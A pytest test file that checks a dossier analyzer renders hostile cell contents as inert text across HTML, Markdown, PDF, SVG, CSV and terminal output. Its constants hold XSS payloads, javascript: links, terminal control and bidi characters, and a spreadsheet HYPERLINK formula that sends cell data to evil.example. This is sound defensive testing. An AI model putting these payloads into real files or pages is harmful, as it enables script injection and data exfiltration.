"""Whatever a dossier's cells hold is text in every form of the report and on the terminal."""

import csv
import json
import re
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree

import pytest
from dossiers import MEASURES, SOURCES, write_dossier
from pypdf import PdfReader

from analyzer.cli import main
from analyzer.outputs.spreadsheets import restored

MARKUP = "</script><script>alert(1)</script><img src=x onerror=alert(1)><!-- ]]> & \"'`"
MARKDOWN = "| x | [click](javascript:alert(1)) ![i](http://evil.example/i.png) <b>b</b> `c"
TYPST = '#panic("x") $x$ *b* _i_ #link("javascript:x")[y] \\ @ref <label> //c /*d'
CONTROLS = "red\x1b[31m\x07 \x9b2J a\u202eb\u2066c\u2028d\x7f"
HONEST = (
    "\u0648\u0632\u0627\u0631\u0629 \u0627\u0644\u0635\u062d\u0629\u200f \u05de\u05e9\u05e8\u05d3"
)
FORMULA = '=HYPERLINK("http://evil.example/"&A1,"x")'
NASTY = [MARKUP, MARKDOWN, TYPST, CONTROLS, HONEST, FORMULA]
UNSEEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u2028\u2029]")
ESCAPES = ("\\x1b[31m\\x07", "\\x9b2J", "a\\u202eb\\u2066c", "\\x7f")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with a dossier of nasty texts, and its report."""
    folder = tmp_path_factory.mktemp("hostile")
    nasty = dict(zip((row["source"] for row in SOURCES), NASTY, strict=True))
    sources = [row | {"name": nasty[row["source"]], "note": MARKUP} for row in SOURCES]
    measures = [
        row | {"label": f"{row['label']} {text}", "definition": text}
        for row, text in zip(MEASURES, [*NASTY, MARKUP], strict=True)
    ]
    claims = [
        {
            "figure": f"{number} killed",
            "measure": "toll",
            "source": name,
            "as_of": f"2024-03-0{place + 1}",
            "published": f"2024-03-0{place + 1}",
            "note": nasty[name],
            "url": "http://a.example/(x)[y]'z",
        }
        for number in (10, 12)
        for place, name in enumerate(nasty)
    ]
    write_dossier(folder / "datasets" / "one", claims, sources=sources, measures=measures)
    (folder / "datasets" / "one" / "dossier.toml").write_text(
        f"title = {json.dumps(MARKUP)}\ndescription = {json.dumps(MARKDOWN + HONEST)}\n"
    )
    words = ["--datasets", str(folder / "datasets"), "--out", str(folder / "reports")]
    assert main(["report", "one", *words]) == 0
    return folder


@pytest.fixture
def report(hostile: Path) -> Path:
    return hostile / "reports" / "one"


class Page(HTMLParser):
    """What a browser would find in the page."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []
        self.texts: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(name, value or "") for name, value in attrs]

    def handle_data(self, data: str) -> None:
        self.texts.append(data)


def test_the_page_holds_markup_as_text(report: Path) -> None:
    text = (report / "index.html").read_text("utf-8")
    page = Page(text)
    assert page.tags.count("script") == 1
    assert not [name for name, _ in page.attributes if name.startswith("on")]
    links = [value for name, value in page.attributes if name in ("href", "src", "action")]
    assert all(re.match(r"#|https?://|data:image/webp|[\w./%-]+$", link) for link in links)
    shown = "".join(page.texts)
    assert MARKUP in shown
    assert all(escape in shown for escape in ESCAPES)
    assert not UNSEEN.search(text)
    assert HONEST.split()[0] in shown


def test_markdown_holds_markup_as_text(report: Path) -> None:
    text = (report / "report.md").read_text("utf-8")
    assert not UNSEEN.search(text)
    assert all(escape.replace("\\", "\\\\")[:5] in text for escape in ESCAPES)
    bare = re.sub(r"`[^`\n]*`", "", re.sub(r"\\.", "", text))
    assert not re.search(r"<(?!/?span\b|/?a\b(?! *href)|https?:|charts/)[a-z!/]", bare)
    assert not re.search(r"\]\(\s*<?(javascript|data):", bare, re.IGNORECASE)
    heads = [len(line.split("|")) for line in bare.splitlines() if line.startswith("|")]
    assert heads
    for block in re.findall(r"(?:^\|.*\n)+", bare, re.MULTILINE):
        assert len({line.count("|") for line in block.splitlines()}) == 1


def test_the_pdf_holds_markup_as_text_and_links_to_the_web_only(report: Path) -> None:
    reader = PdfReader(report / "report.pdf")
    text = "".join(page.extract_text() for page in reader.pages)
    assert not UNSEEN.search(text.replace("\n", ""))
    assert '#panic("x")' in re.sub(r"[\n\u201c\u201d]", '"', text)
    actions = [
        note.get_object()["/A"]
        for page in reader.pages
        for note in page.get("/Annots", [])
        if "/A" in note.get_object()
    ]
    assert {action["/S"] for action in actions} <= {"/URI", "/GoTo"}
    uris = [str(action["/URI"]) for action in actions if "/URI" in action]
    assert uris
    assert all(re.match('https?://[^ <>"]+$', uri) for uri in uris)


def test_charts_hold_markup_as_text(report: Path) -> None:
    drawings = list(report.glob("charts/*.svg"))
    assert drawings
    for path in drawings:
        text = path.read_text("utf-8")
        assert not UNSEEN.search(text)
        tags = {element.tag.split("}")[-1] for element in ElementTree.fromstring(text).iter()}
        assert not tags & {"script", "img", "foreignObject", "a"}


def test_no_table_of_the_report_runs_a_formula(report: Path) -> None:
    tables = [*report.glob("*.csv"), *report.glob("charts/*.csv")]
    with (report / "sources.csv").open(encoding="utf-8", newline="") as file:
        names = {row["name"] for row in csv.DictReader(file)}
    assert f"'{FORMULA}" in names
    assert FORMULA in {restored(name) for name in names}
    for path in tables:
        with path.open(encoding="utf-8", newline="") as file:
            cells = [cell for row in csv.reader(file) for cell in row]
        risky = [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
        assert [cell for cell in risky if not re.fullmatch(r"[+-][\d.,e+-]+", cell)] == []


@pytest.mark.parametrize(
    "words",
    [
        ["findings", "one"],
        ["sources", "one"],
        ["envelope", "one", "toll"],
        ["revisions", "one", "toll"],
        ["reproduce", "12", "--measure", "toll"],
        ["check", "one"],
    ],
)
def test_a_terminal_is_told_nothing(
    hostile: Path, words: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    main([*words, "--datasets", str(hostile / "datasets")])
    out, err = capsys.readouterr()
    assert "Traceback" not in err
    assert not UNSEEN.search(out + err)


def test_a_terminal_is_told_nothing_by_an_error(
    place: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    name = f"datasets/{CONTROLS.replace('/', '')}"
    claims = [{"figure": CONTROLS, "source": CONTROLS, "url": CONTROLS, "as_of": CONTROLS}]
    folder = write_dossier(place / name, claims)
    for words in (["check"], ["report", folder.name], ["findings", CONTROLS], [CONTROLS]):
        assert main(words) == 2
        out, err = capsys.readouterr()
        assert not UNSEEN.search(out + err)
        assert "\\x1b[31m" in err


@pytest.mark.parametrize(
    "address",
    [
        "javascript:alert(1)",
        "data:text/html,x",
        " JaVaScRiPt:alert(1)",
        "http://a.example/ b",
        'http://a.example/"x',
        "http://a.example/<x>",
        "//a.example",
        "http:evil",
    ],
)
def test_only_addresses_of_the_web_are_taken(
    place: Path, address: str, capsys: pytest.CaptureFixture[str]
) -> None:
    write_dossier(place / "datasets" / "one", [{"figure": "12", "url": address}])
    assert main(["check", "one"]) == 2
    assert "is no web address" in capsys.readouterr().err


def test_honest_right_to_left_text_stays(hostile: Path, capsys: pytest.CaptureFixture[str]) -> None:
    main(["sources", "one", "--datasets", str(hostile / "datasets")])
    assert HONEST in capsys.readouterr().out
